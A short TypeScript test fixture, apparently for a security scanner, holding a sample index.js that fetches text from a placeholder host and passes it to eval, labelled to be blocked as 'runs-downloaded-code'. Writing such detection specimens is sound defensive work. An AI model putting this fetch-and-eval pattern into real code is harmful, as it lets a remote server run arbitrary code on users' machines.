import type { Specimen } from '../specimen.ts';

export const specimen: Specimen = {
  name: 'incident-remote-eval',
  from: 'xmlrpc, 2024: what a server answers is run',
  files: {
    'index.js': `const https = require('https');
https.get('https://stage.invalid/next', response => {
  let text = '';
  response.on('data', chunk => (text += chunk));
  response.on('end', () => eval(text));
});
`,
  },
  expect: 'block',
  says: ['runs-downloaded-code'],
};
